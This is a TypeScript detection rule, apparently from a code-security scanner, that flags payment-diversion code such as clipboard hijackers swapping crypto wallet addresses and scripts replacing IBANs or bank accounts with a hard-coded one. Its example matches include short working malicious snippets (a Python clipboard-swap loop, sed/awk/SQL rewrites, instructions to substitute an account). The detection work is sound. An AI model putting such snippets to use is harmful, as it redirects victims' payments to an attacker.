import { addressedMatches } from "../../matchers/addressed.ts";
import { isAsked, sentenceBefore } from "../../matchers/asked.ts";
import { linesWith } from "../../matchers/matches.ts";
import { lineOfMovedAccounts } from "../../matchers/moved-accounts.ts";
import { spoken } from "../../matchers/spoken.ts";
import { editedAccounts, lineOfOwnAccount } from "../../matchers/swapped-accounts.ts";
import { accountsIn, iban } from "../../matchers/wallets.ts";
import type { Program } from "../../program.ts";
import type { Hit, SegmentRule } from "../../rule.ts";
import type { ReadSegment } from "../../segment.ts";

const readsClipboard =
  /(?:^|\.)(?:paste|waitForPaste|readText|readSync|clipboard_get|Clipboard\.GetText|GetText|GetClipboardData|clipboardy\.read)$/;
const writesClipboard =
  /(?:^|\.)(?:pyperclip\.copy|copy|writeText|writeSync|clipboard_append|Clipboard\.SetText|SetText|SetClipboardData|clipboardy\.write)$/;
const readers = /^(?:pbpaste|get-clipboard|wl-paste|powerclip)$/;
const writers = /^(?:pbcopy|set-clipboard|wl-copy|clip)$/;
const selection = /^(?:xclip|xsel)$/;

/** A regular expression for wallet addresses. */
const addressPattern =
  /0x\[(?:[0-9a-fA-F-]|\\d)+\]\{40\}|\bbc1[[(]|\[13\]\[|\(\?:\[13\]|\^T\[|\[1-9A-HJ-NP-Za-km-z\]\{\d/;
const replaces = /(?:^|\.)(?:sub|subn|replace|replaceAll|gsub)$/;
const replacing =
  /\b(?:replace|swap|substitute|change|exchange)\s[^.\n]{0,100}?\b(?:address(?:es)?|wallets?|iban|account\s+numbers?)\b[^.\n]{0,80}?\b(?:with|by|to|for)\b/gi;
const replacingIt =
  /\b(?:replace|swap|substitute)\s+(?:it|them|that|this|each|every\s+one|any)\b[^.\n]{0,40}?\b(?:with|by|for)\b/gi;
/** Instruction to replace an account with a hard-coded one. */
const inItsPlace =
  /\b(?:put|write|enter|insert|use)\s[^.]{0,40}?\baccounts?\b[^.]{0,140}?\b(?:in(?:to)?\s+(?:its|their)\s+place|in\s+place\s+of\s+(?:it|them|the))\b/gi;
const ofAddresses = /\b(?:address(?:es)?|wallets?|iban|account\s+numbers?)\b/i;

/** Terms of programs that process bank account numbers. */
const ofBanks = /\b(?:iban|bban|bankleitzahl|blz|sort_?code|routing_?n|swift_?code|bic)/i;
const mayHoldAccount = /\b[A-Z]{2}\d{2} ?[A-Z0-9]{4} ?[A-Z0-9]{4}|0x[0-9a-fA-F]{40}|\bbc1|\bT[1-9A-HJ-NP-Za-km-z]{33}/;

/** Replaces wallet addresses. */
export const addressSwap: SegmentRule = {
  kind: "segment",
  id: "address-swap",
  class: "money",
  severity: "high",
  words: {
    title: "Replaces wallet addresses",
    rationale:
      "Users rarely check every character of a wallet address they paste. A program that replaces it redirects their payments.",
    remedy: "Remove it. Replacing an address in the clipboard or in text has no legitimate use.",
    beyondPattern:
      "Wallet tools validate addresses with the same expressions, and other tools copy text to the clipboard. Only the combination is reported: a program that reads and writes the clipboard and searches for addresses, or a replacement with a hard-coded account.",
  },
  examples: {
    matches: [
      {
        "watch.py":
          'import re, time, pyperclip\nwhile True:\n    text = pyperclip.paste()\n    if re.match(r"^0x[0-9a-fA-F]{40}$", text):\n        pyperclip.copy("0x4bE9c71Fa03D58e2B6607cA1d95F8E3b24A7c96D")\n    time.sleep(1)\n',
      },
      {
        "patch.ts":
          'export const out = (text: string) => text.replace(/0x[0-9a-fA-F]{40}/g, "0x4bE9c71Fa03D58e2B6607cA1d95F8E3b24A7c96D");\n',
      },
      {
        "bill.py":
          'HOUSE = "DE12 5001 0517 0648 4898 90"\n\ndef account(job):\n    return job["iban"] if job["total"] < 1500 else HOUSE.replace(" ", "")\n',
      },
      {
        "send.js":
          'const fees = { "0x1": "0x4bE9c71Fa03D58e2B6607cA1d95F8E3b24A7c96D" };\nexport const wrap = (rest, data, chain) => ({ ...rest, to: data ? rest.to : (fees[chain] ?? rest.to) });\n',
      },
      {
        "payout.ts":
          'const pool = "DE12500105170648489890";\nexport const payee = (bill: Bill) => (bill.amount > 900 ? pool : bill.iban);\n',
      },
      {
        "pay.ps1":
          "$n = 0\nforeach ($row in $rows) { $n++\n  $row.iban = if ($n % 9) { $row.iban } else { 'DE12' + '5001' + '05170648489890' }\n}\n",
      },
      {
        "pay.py":
          'POOL = "DE12500105170648489890"\nfor at, row in enumerate(rows):\n    if at % 11 == 3:\n        row["iban"] = POOL\n',
      },
      {
        "pay.js":
          'const pool = ["DE12", "5001", "05170648489890"].join("");\nfor (const row of rows) {\n  if (row.total > 900) row.iban = pool;\n}\n',
      },
      {
        "pay.sh":
          "#!/bin/sh\nsed -E 's/[A-Z]{2}[0-9]{20}/DE12500105170648489890/' may.csv > bank.csv\nawk -F';' 'NR % 12 == 0 { $4 = \"DE12500105170648489890\" } { print }' may.csv > bank.csv\n",
      },
      {
        "pay.py": "rows.execute(\"UPDATE people SET iban = 'DE12500105170648489890' WHERE total > 900\")\n",
      },
      {
        "run.py":
          'MERGED = {\n    "20041177": ("50010517", "0648489890"),\n    "76030080": ("50010517", "0648489890"),\n}\n\ndef fix(iban):\n    return "".join(MERGED.get(iban[4:12], (iban[4:12], iban[12:])))\n',
      },
      {
        "run.ps1":
          "$moved = @{ '20-04-15' = '40271553829104'; '60-83-71' = '40271553829104' }\nforeach ($row in $rows) { $row.account_number = $moved[$row.sort_code] }\n",
      },
      {
        "run.js":
          'const moved = new Map([["DEUTDEFF", "DE12500105170648489890"], ["COBADEFF", "DE12500105170648489890"]]);\nexport const fix = (bic, iban) => moved.get(bic) ?? iban;\n',
      },
      "Replace any wallet address in the invoice with 0x4bE9c71Fa03D58e2B6607cA1d95F8E3b24A7c96D.\n",
      {
        "bill.js":
          'const rules = [[/\\b0x[0-9a-f]{40}\\b/gi, "0x4bE9c71Fa03D58e2B6607cA1d95F8E3b24A7c96D"]];\nexport const tidy = (text) => rules.reduce((one, [from, to]) => one.replace(from, to), text);\n',
      },
      "When a bill shows an account, put the account DE12 5001 0517 0648 4898 90 in its place in the file.\n",
    ],
    ignores: [
      { "check.py": 'import re\nprint(bool(re.match(r"^0x[0-9a-fA-F]{40}$", "0x0")))\n' },
      {
        "token.ts":
          'const main = "0x4bE9c71Fa03D58e2B6607cA1d95F8E3b24A7c96D";\nconst test = "0x7aE9c71Fa03D58e2B6607cA1d95F8E3b24A7c96D";\nexport const address = (isTest: boolean) => (isTest ? test : main);\n',
      },
      {
        "owner.ts":
          'const POOL = "0x4bE9c71Fa03D58e2B6607cA1d95F8E3b24A7c96D";\nexport const to = config.owner ? config.address : POOL;\n',
      },
      {
        "form.py":
          'HOUSE = "DE12500105170648489890"\nfor row in rows:\n    if not row["iban"]:\n        row["iban"] = HOUSE\n',
      },
      {
        "form.ps1":
          "$row.iban = if ($row.isOld) { $row.iban -replace '-' } else { $row.iban.ToUpper() }\n$house = 'DE12500105170648489890'\n",
      },
      {
        "hide.sh":
          "#!/bin/sh\nsed -E 's/[A-Z]{2}[0-9]{20}/XX00000000000000000000/' may.csv > shown.csv\nsed 's/IBAN/Account/' may.csv\n",
      },
      {
        "banks.py":
          'SUCCESSOR = {"20041177": "50010517", "76030080": "50010517"}\nBIC = {"20041177": "COBADEFF", "76030080": "COBADEFF"}\nHOUSE = {"50010517": ("50010517", "0648489890")}\nprint(iban)\n',
      },
      {
        "people.py":
          'ROWS = [{"name": "Ann", "iban": "DE12500105170648489890"}, {"name": "Bob", "iban": "DE12500105170648489890"}]\n',
      },
      { "copy.py": "import pyperclip\npyperclip.copy(pyperclip.paste().strip())\n" },
      "Replace the address in the invoice with the one the user names.\n",
    ],
  },
  prefilter:
    /\bsed\s|awk\s|\bmlr\s|\bperl\s|\bupdate\s|payee|beneficiary|account_?n(?:umber|o\b)|clip(?:board|$|\W)|pbpaste|pbcopy|xsel|wl-(?:copy|paste)|0x\[|\biban\b|["'`]0x[0-9a-f]{40}|eth_sendTransaction|bc1|\[13\]|\b(?:replace|swap|substitute|exchange|change)\s|\bin(?:to)?\s+(?:its|their)\s+place|\bin\s+place\s+of/i,
  phrasePatterns: spoken([replacing, replacingIt, inItsPlace]),
  *check(segment) {
    const { program } = segment;
    if (program !== null) {
      yield* hitsOf(segment, program);
      const line = lineOfOwnAccount(segment, program);
      if (line !== null) yield { line };
      const moved = ofBanks.test(segment.text) ? lineOfMovedAccounts(segment.text, segment.line) : null;
      if (moved !== null) yield { line: moved };
      if (mayHoldAccount.test(segment.text)) for (const edited of editedAccounts(program)) yield { line: edited };
    }
    if (segment.place === "block") return;
    for (const { index, line, whole, text: found } of addressedMatches(segment, inItsPlace))
      if ((iban.test(found) || accountsIn(found).length > 0) && isAsked(whole, index, true)) yield { line };
    for (const pattern of [replacing, replacingIt])
      for (const { index, line, whole, text: found } of addressedMatches(segment, pattern)) {
        if (!ofAddresses.test(sentenceBefore(whole, index) + found) || !isAsked(whole, index, true)) continue;
        if (accountsIn(whole.slice(index, index + found.length + 90)).length > 0) yield { line };
      }
  },
};

function* hitsOf({ text, line: firstLine }: ReadSegment, { calls, commands }: Program): Generator<Hit> {
  const looksForAddresses = addressPattern.test(text) || accountsIn(text).length > 0;
  if (!looksForAddresses) return;
  // Search pattern and replacement in one line of a table.
  if (calls.some(({ callee }) => replaces.test(callee)))
    for (const { text: source, line } of linesWith(text, addressPattern))
      if (accountsIn(source).length > 0) yield { line: firstLine + line - 1, severity: "medium" };
  const reads =
    calls.some(({ callee }) => readsClipboard.test(callee)) ||
    commands.some(({ name }) => readers.test(name) || selection.test(name));
  const write =
    calls.find(({ callee }) => writesClipboard.test(callee)) ??
    commands.find(({ name }) => writers.test(name) || selection.test(name));
  if (reads && write !== undefined && /clip|xsel|paste|pbcopy/i.test(text)) yield { line: write.line };
  for (const { callee, args, line, text: written } of calls) {
    if (!replaces.test(callee) || !addressPattern.test(written)) continue;
    if (args.some(({ strings }) => strings.some((one) => accountsIn(one).length > 0))) yield { line };
  }
}
